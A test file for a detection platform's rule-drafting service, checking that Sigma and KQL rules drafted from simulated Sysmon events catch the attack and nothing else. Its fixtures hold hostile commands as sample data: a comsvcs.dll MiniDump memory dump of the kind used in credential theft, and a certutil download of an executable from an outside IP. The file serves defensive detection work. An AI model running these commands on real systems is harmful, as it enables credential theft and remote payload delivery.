import * as contract from '@tyrian/contract';
import { lintSigma } from '@tyrian/sigma';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type DetectionApp, detectionApp, type EventRow } from '../../detections/testing/detection-app.ts';
import { type DetectionBench, detectionBench } from '../../detections/testing/detection-bench.ts';
import { createAuditService } from '../../identity/audit/audit-service.ts';
import { ingestFeature } from '../../ingest/ingest-feature.ts';
import { createDraftService } from './draft-service.ts';

// Drafts of rules on real engines: events of an attack among an ordinary day.

const NOW = Date.UTC(2026, 2, 4, 10);
const MINUTE = 60_000;

let app: DetectionApp;
let queries: DetectionBench['queries'];
beforeAll(async () => {
  app = await detectionApp(NOW);
  queries = detectionBench(app.test.platform, app.company.a.clusterId).queries;
  await app.store([...noise(), ...attack()]);
});
afterAll(() => app?.test.close());

const uidOf = (number: number): string => `00000000-0000-4000-8000-${String(number).padStart(12, '0')}`;

const sysmon = {
  EventVendor: 'Microsoft',
  EventProduct: 'Sysmon',
  EventType: 'ProcessCreated',
  EventID: 1,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
};

/** Programs that start all day, cmd.exe and rundll32.exe among them. */
function noise(): EventRow[] {
  const programs = ['cmd.exe', 'svchost.exe', 'rundll32.exe', 'chrome.exe'];
  return Array.from({ length: 400 }, (_, at) => ({
    time: NOW - at * MINUTE - 1,
    columns: {
      ...sysmon,
      EventUid: uidOf(1000 + at),
      DvcHostname: `pc-${at % 9}`,
      ActorUsername: `user-${at % 5}`,
      ProcessName: `C:\\Windows\\System32\\${programs[at % 4]}`,
      ParentProcessName: 'C:\\Windows\\explorer.exe',
      CommandLine: `${programs[at % 4]} /c start shell32.dll,Control ${at}`,
      ProcessId: at,
    },
  }));
}

function attack(): EventRow[] {
  return [1, 2, 3].map((at) => ({
    time: NOW - at * 37 * MINUTE - 7,
    columns: {
      ...sysmon,
      EventUid: uidOf(at),
      DvcHostname: `pc-${at}`,
      ActorUsername: `user-${at}`,
      ProcessName: 'C:\\Windows\\System32\\rundll32.exe',
      ParentProcessName: 'C:\\Windows\\explorer.exe',
      CommandLine: `rundll32.exe C:\\Windows\\comsvcs.dll, MiniDump ${600 + at} C:\\Temp\\${at}.dmp full`,
      ProcessId: 9000 + at,
      Raw: `{"EventID": 1, "at": ${at}}`,
    },
  }));
}

const attackEvents = [1, 2, 3].map((at) => ({ uid: uidOf(at), time: NOW - at * 37 * MINUTE - 7 }));
const draft = (
  input: object,
  ...more: [('engineer' | 'analyst')?, { clusterId?: string; scopeId?: string }?]
) => app.call(contract.draftRule, input, ...more);

/** Uids that a query of KQL finds in the day of the draft. */
async function found(kql: string): Promise<string[]> {
  const range = { from: NOW - 86_400_000, to: NOW + MINUTE };
  const { rows } = await queries.run({
    clusterId: app.company.a.clusterId,
    scopes: [app.company.a.scope],
    kql: `${kql}\n| project EventUid`,
    timeRange: range,
    queue: 'interactive',
  });
  return rows.map(([uid]) => String(uid)).sort();
}

describe('a rule drafted from events', () => {
  it('[T-draft] matches the events of an attack and nothing else of the day, as Sigma and as KQL', async () => {
    const answer = await draft({ events: attackEvents });
    expect(answer.http, answer.text).toBe(200);
    const made = answer.data;
    expect(made).toMatchObject({
      state: 'drafted',
      events: 3,
      streams: ['ProcessEvent'],
      compared: { events: 400, all: true },
      no_sigma: null,
      kql: { others: 0, matches_all: true },
      sigma: { others: 0, log_source: { product: 'windows', category: 'process_creation', service: null } },
    });
    const wanted = attackEvents.map(({ uid }) => uid).sort();
    expect(await found(made.kql?.text ?? '')).toEqual(wanted);
    expect(await found(made.sigma?.kql ?? '')).toEqual(wanted);
    const on = made.conditions.filter(({ is_on }) => is_on);
    expect(on.length).toBeLessThanOrEqual(2);
    expect(on.map(({ path }) => path[0])).toContain('CommandLine');
    // Programs that start all day are counted as such.
    const program = made.conditions.find(({ path }) => path[0] === 'ProcessName');
    expect(program).toMatchObject({ values: ['\\rundll32.exe'], sigma_field: 'Image', others: 100 });
    expect(made.conditions.some(({ path }) => path[0] === 'ProcessId')).toBe(false);
    const text = `${made.sigma?.text}${made.sigma?.samples}`;
    expect(lintSigma(text, {}).filter(({ severity }) => severity === 'error')).toEqual([]);
    expect(text).toContain('- \'{"EventID": 1, "at": 1}\'');
    // What it drafted can be saved as it is.
    const saved = await app.call(contract.saveOwnRule, { text: made.sigma?.text });
    expect(saved.http, saved.text).toBe(200);
  });

  it('[T-draft] conditions that are left out are verified again', async () => {
    const first = (await draft({ events: attackEvents })).data;
    const conditions = first.conditions.map(({ path, operator, values }) => {
      return { path, operator, values, is_on: path[0] === 'ProcessName' };
    });
    const second = (await draft({ events: attackEvents, conditions })).data;
    expect(second.kql).toMatchObject({ others: 100, matches_all: true });
    expect(second.sigma).toMatchObject({ others: 100 });
    expect(second.sigma?.text).toContain("Image|endswith: '\\rundll32.exe'");
    expect(second.sigma?.text).not.toContain('CommandLine');
    const odd = [{ path: ['ProcessName'], operator: 'equals', values: ["no such 'program"], is_on: true }];
    const none = (await draft({ events: attackEvents, conditions: odd })).data;
    expect(none.kql).toMatchObject({ matches_all: false, others: 0 });
    expect(none).toMatchObject({ sigma: null, no_sigma: 'does-not-match' });
  });

  it('[T-draft] a column without a name in Sigma stays in the KQL draft', async () => {
    const conditions = [
      { path: ['ProcessName'], operator: 'endswith', values: ['\\rundll32.exe'], is_on: true },
      { path: ['NetworkRuleName'], operator: 'equals', values: ['x'], is_on: false },
      { path: ['EventProduct'], operator: 'equals', values: ['Sysmon'], is_on: true },
    ];
    const made = (await draft({ events: attackEvents, conditions })).data;
    expect(made.conditions.map(({ sigma_field }) => sigma_field)).toEqual(['Image', null, null]);
    expect(made.kql?.text).toContain('EventProduct');
    expect(made.sigma?.text).not.toContain('EventProduct');
  });

  it('[T-draft] events that share nothing get no draft, but a clear answer', async () => {
    const times = [5, 6].map((at) => NOW - at * MINUTE - 3);
    await app.store(
      times.map((time, at) => ({
        time,
        stream: at === 0 ? 'Dns' : 'FileEvent',
        columns: { EventUid: uidOf(50 + at), ...(at === 0 ? { DnsQuery: 'a.example' } : { FilePath: '/x' }) },
      })),
    );
    const events = times.map((time, at) => ({ uid: uidOf(50 + at), time }));
    const answer = await draft({ events });
    expect(answer.http, answer.text).toBe(200);
    expect(answer.data).toMatchObject({ state: 'nothing-shared', sigma: null, kql: null, conditions: [] });
    expect(answer.data.streams).toEqual(['Dns', 'FileEvent']);
  });

  it('[T-draft][T-samples] the events are samples that the saved rule passes', async () => {
    const { postgres, clock, log } = app.test.platform;
    const audit = createAuditService({ postgres, clock, log });
    const { ingest } = ingestFeature(app.test.platform, { audit });
    const { clusterId, scope: scopeId } = app.company.a;
    const line = {
      EventID: 1,
      Channel: sysmon.Channel,
      Computer: 'pc-1',
      UtcTime: '2026-03-04 09:51:00.000',
      Image: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: "certutil.exe -urlcache -f 'http://198.51.100.7/a.exe' a.exe",
    };
    const sender = { clusterId, scopeId, sourceId: null, sourceName: 'sample', sourceAddress: '192.0.2.1' };
    await ingest.ingest(sender, JSON.stringify(line));
    const [uid = ''] = await found('ProcessEvent | where ProcessName endswith "certutil.exe"');
    const made = (await draft({ events: [{ uid, time: Date.UTC(2026, 2, 4, 9, 51) }] })).data;
    expect(made.kql).toMatchObject({ others: 0, matches_all: true });
    const text = `${made.sigma?.text}${made.sigma?.samples}`;
    const saved = await app.call(contract.saveOwnRule, { text });
    expect(saved.http, saved.text).toBe(200);
    const samples = (await app.call(contract.readSamples, { rule_id: saved.data.rule_id })).data;
    expect(samples).toMatchObject({ state: 'passed', samples: [{ expect: 'match' }] });
  });

  it('[T-draft] values with quotes, wildcards, backslashes and control characters match what they were taken from', async () => {
    const odd = `"C:\\a*b?\\\\share\\" 'it''s' 100%\t\u0007 {x}: #y \\*z`;
    const time = NOW - 9 * MINUTE - 1;
    await app.store([{ time, columns: { ...sysmon, EventUid: uidOf(60), CommandLine: odd } }]);
    const conditions = ['equals', 'contains', 'startswith', 'endswith'].map((operator) => {
      return { path: ['CommandLine'], operator, values: [odd], is_on: true };
    });
    const made = (await draft({ events: [{ uid: uidOf(60), time }], conditions })).data;
    expect(made.kql).toMatchObject({ others: 0, matches_all: true });
    expect(made.sigma?.others).toBe(0);
    expect(await found(made.sigma?.kql ?? '')).toEqual([uidOf(60)]);
  });
});

describe('drafts and their limits', () => {
  it('[T-draft] names below Ext with any characters are asked as names', async () => {
    for (const name of ["a'b", 'a"b', 'a`b', 'a\\', 'a)b', 'a.b', '{x:String}', 'SELECT 1', '%', '[]']) {
      const condition = { path: ['Ext', name], operator: 'equals', values: ['x'], is_on: true };
      const answer = await draft({ events: attackEvents, conditions: [condition] });
      expect([name, answer.http, answer.data?.kql?.others]).toEqual([name, 200, 0]);
    }
    const control = { path: ['Ext', 'a\u0001'], operator: 'equals', values: ['x'], is_on: true };
    expect((await draft({ events: attackEvents, conditions: [control] })).http).toBe(422);
  });

  it('[T-draft][S13] events of another scope or tenant answer as ones that are not there', async () => {
    const [event] = attackEvents;
    const { b } = app.company;
    await app.store([{ time: NOW - MINUTE, columns: { ...sysmon, EventUid: uidOf(70) } }], {
      clusterId: b.clusterId,
      scopeId: b.scope,
    });
    const gone = await draft({ events: [event, { uid: newUid(), time: NOW }] });
    const foreign = await draft({ events: [event, { uid: uidOf(70), time: NOW - MINUTE }] });
    expect([gone.http, foreign.http]).toEqual([404, 404]);
    expect(messageOf(foreign.text)).toBe(messageOf(gone.text));
    const where = { clusterId: b.clusterId, scopeId: b.scope };
    expect((await draft({ events: attackEvents }, 'engineer', where)).http).toBe(403);
    expect((await draft({ events: attackEvents }, 'analyst')).http).toBe(403);
  });

  it('[T-draft] more than 50 events, more than a day, and conditions that cannot be asked are refused', async () => {
    const many = Array.from({ length: 51 }, (_, at) => ({ uid: uidOf(1000 + at), time: NOW }));
    expect((await draft({ events: many })).http).toBe(422);
    expect((await draft({ events: [] })).http).toBe(422);
    const apart = [attackEvents[0], { uid: uidOf(2), time: NOW - 2 * 86_400_000 }];
    const answer = await draft({ events: apart });
    expect([answer.http, answer.text]).toEqual([422, expect.stringContaining('more than a day apart')]);
    for (const condition of [
      { path: ['NoSuch'], operator: 'equals', values: ['x'] },
      { path: ['ProcessName', 'deeper'], operator: 'equals', values: ['x'] },
      { path: ['Ext'], operator: 'equals', values: ['x'] },
      { path: ['EventID'], operator: 'equals', values: ['1 or true'] },
      { path: ['EventID'], operator: 'contains', values: ['1'] },
    ]) {
      const refused = await draft({ events: attackEvents, conditions: [{ ...condition, is_on: true }] });
      expect([refused.http, refused.text]).toEqual([422, expect.stringContaining('cannot be asked')]);
    }
  });

  it('[T-draft] ends when its caller goes away', async () => {
    const controller = new AbortController();
    const { platform } = app.test;
    const asked: string[] = [];
    const service = createDraftService({
      clock: platform.clock,
      audit: { record: () => Promise.resolve() } as never,
      reachOf: () => Promise.resolve({}),
      queries: {
        run: (request) => {
          asked.push(request.kql);
          if (asked.length === 2) controller.abort();
          return queries.run(request);
        },
      },
    });
    const caller = { userId: app.company.userIds.engineer, name: 'Somebody' } as never;
    const { clusterId, scope: scopeId } = app.company.a;
    const input = { scope_id: scopeId, events: attackEvents };
    await expect(
      service.draft({ caller, clusterId, scopeId, signal: controller.signal }, input),
    ).rejects.toThrow();
    expect(asked).toHaveLength(2);
  });

  it('[T-draft][S13] leaves an entry with range, queries and rows read', async () => {
    await draft({ events: attackEvents });
    const { rows } = await sql<{ details: Record<string, unknown>; user_id: string; scope_id: string }>`
      select details, user_id, scope_id from audit_entry where action = 'rule.draft'
      order by chain_no desc limit 1`.execute(app.test.platform.postgres.platform);
    expect(rows[0]).toMatchObject({
      user_id: app.company.userIds.engineer,
      scope_id: app.company.a.scope,
      details: { rows: 3, compared: expect.any(Number), state: 'drafted', to: NOW, from: NOW - 86_400_000 },
    });
    expect(rows[0]?.details.query).toEqual(expect.arrayContaining([expect.stringContaining('EventUid in')]));
  });
});

const newUid = (): string => crypto.randomUUID();
const messageOf = (text: string): string => JSON.parse(text).message;
